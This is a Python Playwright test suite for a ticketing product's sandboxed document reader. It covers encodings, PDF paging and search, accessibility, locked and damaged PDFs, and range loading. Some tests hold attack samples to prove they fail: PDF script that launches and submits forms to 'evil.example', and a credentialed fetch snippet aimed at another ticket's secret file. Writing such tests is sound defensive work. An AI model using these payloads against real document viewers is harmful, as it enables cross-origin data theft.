"""Documents looked at in a real browser: in frames that have no origin, whatever is in them."""

import re
from typing import Literal

import pytest
from playwright.async_api import Frame, Request, ViewportSize, expect

from maildock.flow.context import Context
from maildock.tables.tenants import Tenant
from tests.desk import Desk
from tests.mail import mail
from tests.pdf import pdf
from tests.web.browser.axe import violations
from tests.web.browser.conftest import Browser
from tests.web.browser.test_tickets import document, full, png

pytestmark = pytest.mark.browser

JAPANESE = "\u3053\u308c\u306f\u6587\u5b57\u5316\u3051\u3057\u307e\u305b\u3093\u3002"
CHINESE = "\u8fd9\u4e2a\u6587\u4ef6\u7684\u5185\u5bb9\u53ef\u4ee5\u8bfb\u3002"
LONG = pdf(*(f"Scan {number}" for number in range(1, 21)), padding=1 << 20)
SCHEMES: tuple[Literal["light", "dark"], ...] = ("light", "dark")
TAKING = "at => fetch(at, {credentials: 'include'}).then(answer => answer.text()).catch(error => error.name)"


@pytest.fixture
def desk(context: Context, tenant: Tenant) -> Desk:
    return Desk(context, tenant)


async def view(browser: Browser, name: str, ticket: int = 1) -> Frame:
    """Look at a document of a ticket, and give its frame once that is loaded."""
    await browser.page.goto(f"{browser.origin}/tickets/{ticket}")
    path = await document(browser.page, name)
    await browser.page.goto(f"{browser.origin}{path}/view")
    frame = browser.page.frames[1]
    await frame.wait_for_url(re.compile("/(reader|content)$"))
    return frame


async def see(browser: Browser, desk: Desk, content: bytes) -> Frame:
    """Let a PDF come in, and look at it."""
    await desk.ingest(mail("Note").attach("note.pdf", content))
    return await view(browser, "note.pdf")


async def test_documents_are_looked_at_in_a_frame_without_an_origin(browser: Browser, desk: Desk) -> None:
    await desk.ingest(*full())
    for name in ("a.txt", "a.png", "a.pdf"):
        assert await (await view(browser, name)).evaluate("window.origin") == "null"
    shown = await view(browser, "a.txt")
    await expect(shown.get_by_text("plain <b>text</b>")).to_be_visible()
    assert await (await view(browser, "a.png")).evaluate("document.images[0].naturalWidth") == 60


async def test_a_text_is_shown_in_its_own_script(browser: Browser, desk: Desk) -> None:
    german = "Die T\u00fcren \u00f6ffnen sich f\u00fcr gro\u00dfe M\u00f6bel. "
    texts = dict.fromkeys(("utf-8", "utf-16", "windows-1252"), german)
    texts |= {"shift_jis": JAPANESE, "iso-2022-jp": JAPANESE, "gb18030": CHINESE}
    note = mail("Note")
    for charset, text in texts.items():
        note = note.attach(f"{charset}.txt", (text * 20).encode(charset))
    await desk.ingest(note)
    for charset, text in texts.items():
        await expect((await view(browser, f"{charset}.txt")).get_by_text(text[:20])).to_be_visible()


async def test_a_pdf_is_read_page_by_page(browser: Browser, desk: Desk) -> None:
    shown = await see(browser, desk, pdf("First page", "Second page", "The last page"))
    await expect(shown.get_by_text("First page")).to_be_visible()
    await expect(shown.get_by_text("of 3", exact=True)).to_be_visible()
    await shown.get_by_role("button", name="Next page").click()
    await expect(shown.get_by_label("Page", exact=True)).to_have_value("2")
    await shown.get_by_label("Page", exact=True).fill("3")
    await shown.get_by_label("Page", exact=True).press("Enter")
    await expect(shown.get_by_role("button", name="Next page")).to_be_disabled()
    await expect(shown.get_by_text("The last page")).to_be_in_viewport()
    await shown.get_by_label("Page", exact=True).fill("77")
    await shown.get_by_label("Page", exact=True).press("Enter")
    await expect(shown.get_by_label("Page", exact=True)).to_have_value("3")


async def test_a_pdf_is_searched_and_enlarged(browser: Browser, desk: Desk) -> None:
    shown = await see(browser, desk, pdf("First page", "Second page", "Third"))
    await shown.get_by_role("searchbox").press_sequentially("PAGE")
    await expect(shown.get_by_text("1 of 2")).to_be_visible()
    await shown.get_by_role("searchbox").press("Enter")
    await expect(shown.get_by_text("2 of 2")).to_be_visible()
    await shown.get_by_role("searchbox").fill("nowhere")
    await expect(shown.get_by_text("Nothing found")).to_be_visible()
    before = await shown.locator(".page").first.bounding_box()
    await shown.get_by_role("button", name="Larger").click()
    after = await shown.locator(".page").first.bounding_box()
    assert before
    assert after
    assert after["width"] > before["width"] * 1.1


async def test_the_reader_is_for_everybody(browser: Browser, desk: Desk) -> None:
    shown = await see(browser, desk, pdf("First page", "Second page"))
    for scheme in SCHEMES:
        await browser.page.emulate_media(color_scheme=scheme)
        assert await violations(shown) == []
    await browser.page.set_viewport_size(ViewportSize(width=360, height=720))
    await expect(shown.get_by_role("searchbox")).to_be_visible()
    assert await shown.evaluate("document.documentElement.scrollWidth") <= 360


async def test_what_is_in_a_pdf_does_nothing(browser: Browser, desk: Desk) -> None:
    script = "app.alert\\('won'\\); app.launchURL\\('https://evil.example/1'\\); this.submitForm\\('https://evil.example/2'\\)"
    dialogs, popups = list[str](), list[str]()
    browser.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    browser.page.on("popup", lambda popup: popups.append(popup.url))
    shown = await see(browser, desk, pdf("Click me", script=script, link="https://evil.example/3"))
    await shown.get_by_text("Click me").click(force=True)
    # What does not happen cannot be waited for.
    await browser.page.wait_for_timeout(500)
    assert shown.url == f"{browser.origin}/reader"
    assert (dialogs, popups) == ([], [])


async def test_the_reader_gets_no_other_document(browser: Browser, desk: Desk) -> None:
    await desk.ingest(mail("Secret").attach("secret.txt", b"secret"))
    await browser.page.goto(f"{browser.origin}/tickets/1")
    secret = await document(browser.page, "secret.txt")
    await desk.ingest(mail("Note").attach("note.pdf", pdf("First page")))
    shown = await view(browser, "note.pdf", 2)
    assert await shown.evaluate(TAKING, browser.origin + secret) == "TypeError"
    assert await shown.evaluate(
        "() => { try { return parent.document.title } catch (error) { return error.name } }"
    ) == ("SecurityError")
    browser.complaints.clear()


async def test_only_what_is_looked_at_is_read_of_a_long_pdf(browser: Browser, desk: Desk) -> None:
    ranges = list[tuple[int, int]]()

    def note(request: Request) -> None:
        if asked := re.fullmatch(r"bytes=(\d+)-(\d+)", request.headers.get("range", "")):
            ranges.append((int(asked[1]), int(asked[2]) + 1))

    browser.page.on("request", note)
    shown = await see(browser, desk, LONG)
    await expect(shown.get_by_text("Scan 1", exact=True)).to_be_visible()
    assert 0 < sum(end - start for start, end in ranges) < len(LONG) / 4
    await shown.get_by_label("Page", exact=True).fill("20")
    await shown.get_by_label("Page", exact=True).press("Enter")
    await expect(shown.get_by_text("Scan 20", exact=True)).to_be_in_viewport()
    assert sum(end - start for start, end in ranges) < len(LONG) / 2


async def test_a_locked_pdf_asks_for_its_password(browser: Browser, desk: Desk) -> None:
    shown = await see(browser, desk, pdf("Salaries", password="swordfish"))
    asked = shown.get_by_label("The PDF is locked. Its password:")
    await asked.fill("guess")
    await shown.get_by_role("button", name="Open").click()
    await expect(shown.get_by_role("alert")).to_have_text("That is not its password.")
    assert await violations(shown) == []
    await asked.fill("swordfish")
    await asked.press("Enter")
    await expect(shown.get_by_text("Salaries")).to_be_visible()


async def test_a_damaged_pdf_says_so(browser: Browser, desk: Desk) -> None:
    shown = await see(browser, desk, b"%PDF-1.4\n" + bytes(5000))
    await expect(shown.locator("#message")).to_contain_text("The PDF is damaged, or none.")
    # The reader's library says on the console that it looked for pages everywhere.
    browser.complaints.clear()


async def test_a_pdf_that_claims_to_be_endless_is_not_believed(browser: Browser, desk: Desk) -> None:
    shown = await see(browser, desk, pdf("First", "Last", claimed=10**9))
    await expect(shown.locator("#message")).to_contain_text("The PDF cannot be shown here.")


async def test_the_reader_says_why_nothing_is_shown(browser: Browser, desk: Desk) -> None:
    await browser.page.goto(f"{browser.origin}/reader")
    await expect(browser.page.locator("#message")).to_contain_text("has none itself")
    await browser.page.route("**/pdf_viewer.mjs", lambda route: route.abort())
    shown = await see(browser, desk, pdf("First"))
    await expect(shown.locator("#message")).to_contain_text("The reader could not be loaded.")
    await browser.page.unroute("**/pdf_viewer.mjs")
    await browser.page.route("**/reader.mjs*", lambda route: route.abort())
    await browser.page.clock.install()
    await browser.page.reload()
    await browser.page.clock.fast_forward(31_000)
    await expect(browser.page.get_by_text("The reader has not come.")).to_be_visible()
    browser.complaints.clear()


async def test_the_reader_hears_nobody_but_its_page(browser: Browser, desk: Desk) -> None:
    await browser.page.add_init_script("if (location.pathname === '/reader') postMessage({source: 'extension'}, '*')")
    shown = await see(browser, desk, pdf("First"))
    await expect(shown.get_by_text("First")).to_be_visible()
    assert await shown.evaluate("'RTCPeerConnection' in window") is False


async def test_a_pdf_goes_on_where_the_network_came_back(browser: Browser, desk: Desk) -> None:
    shown = await see(browser, desk, LONG)
    await expect(shown.get_by_text("Scan 1", exact=True)).to_be_visible()
    await browser.page.context.set_offline(True)
    await shown.get_by_label("Page", exact=True).fill("15")
    await shown.get_by_label("Page", exact=True).press("Enter")
    await expect(shown.locator("#message")).to_contain_text("could not be read to its end")
    await browser.page.context.set_offline(False)
    await expect(shown.get_by_text("Scan 15", exact=True)).to_be_in_viewport(timeout=15_000)
    await expect(shown.locator("#message")).to_be_hidden()
    browser.complaints.clear()


async def test_a_pdf_ends_with_the_session(browser: Browser, desk: Desk) -> None:
    shown = await see(browser, desk, LONG)
    await expect(shown.get_by_text("Scan 1", exact=True)).to_be_visible()
    await browser.page.context.clear_cookies()
    await shown.get_by_label("Page", exact=True).fill("15")
    await shown.get_by_label("Page", exact=True).press("Enter")
    await expect(shown.locator("#message")).to_have_text("You are logged out. Load the page again to log in.")
    browser.complaints.clear()


async def test_a_picture_is_as_wide_as_there_is_room(browser: Browser, desk: Desk) -> None:
    await desk.ingest(mail("Stack").attach("a.png", png(60, 40)).attach("b.png", png(3000, 200)))
    page = browser.page
    await page.goto(f"{browser.origin}/tickets/1")
    for path, size in [(await document(page, "a.png"), (60, 40)), (await document(page, "b.png"), (3000, 200))]:
        await page.goto(f"{browser.origin}{path}/view")
        frame = page.locator(".fitted iframe")
        # All of the picture is in the frame, and all of the frame in the window.
        assert await frame.evaluate("frame => [frame.clientWidth, frame.clientHeight]") == [*size]
        shown = await frame.bounding_box()
        assert shown is not None
        assert min(size[0], 1100) <= shown["width"] <= min(size[0], 1280)
        assert shown["width"] / shown["height"] == pytest.approx(size[0] / size[1], rel=0.01)
